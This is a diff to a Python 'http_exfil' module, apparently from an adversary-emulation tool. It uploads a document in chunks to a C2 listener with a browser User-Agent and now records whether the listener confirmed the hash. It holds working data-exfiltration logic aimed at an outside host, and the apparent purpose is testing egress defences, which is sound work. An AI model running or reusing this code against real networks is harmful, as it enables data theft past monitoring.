@@ -80,7 +80,8 @@ def _doc_or_error(params: dict, res: Result) -> bytes | None:
      "path": Param(str, "/upload", "URL path prefix of the uploads"),
      "port": Param(int, 8443, "listener port for targets given without :port"),
      "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header")},
-    produces=("bytes", "chunks", "sha256", "session", "complete"), target_kind="service")
+    produces=("bytes", "chunks", "sha256", "session", "complete", "confirmed"),
+    target_kind="service")
 def http_exfil(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
     doc = _doc_or_error(params, res)
@@ -99,7 +100,7 @@ def http_exfil(targets: list[str], params: dict) -> Result:
     pieces = [doc[i:i + chunk] for i in range(0, len(doc), chunk)]
     sent_bytes, statuses = 0, {}
     digest = hashlib.sha256(doc).hexdigest()
-    complete = False
+    complete = confirmed = False
     try:
         for seq, piece in enumerate(pieces):
             if seq and rate > 0:
@@ -122,14 +123,23 @@ def http_exfil(targets: list[str], params: dict) -> Result:
                                             ua, {"Content-Type": "application/json"})
             res.flows.append(fl)
             try:
-                complete = status == "ok" and bool(json.loads(body).get("ok"))
+                answer = json.loads(body) if status == "ok" else None
             except ValueError:
-                complete = False
+                answer = None
+            if isinstance(answer, dict) and "ok" in answer:
+                confirmed = True                  # the listener joined the pieces, checked
+                complete = bool(answer["ok"])     # the hash and said whether it matches
+            else:
+                # every chunk was accepted (2xx), so every byte arrived; the listener does
+                # not reassemble on this path (the C2 listener does so under /upload only)
+                complete = True
+                res.log.append(f"every chunk accepted; {prefix or '/'}/{session}/done "
+                               f"answered {status} without a hash check")
     except Blocked as exc:          # the actor's own node stopped sending
         res.cut(exc.reason)
     res.log.append(f"{len(pieces)} chunks of {chunk} bytes; statuses {statuses}")
     res.facts = {"bytes": sent_bytes, "chunks": len(pieces), "sha256": digest,
-                 "session": session, "complete": complete}
+                 "session": session, "complete": complete, "confirmed": confirmed}
     return conclude(res, complete, not sent_bytes and set(statuses) <= set(DEAD)
                     and "every upload was refused or dropped (a firewall on the path)")
 
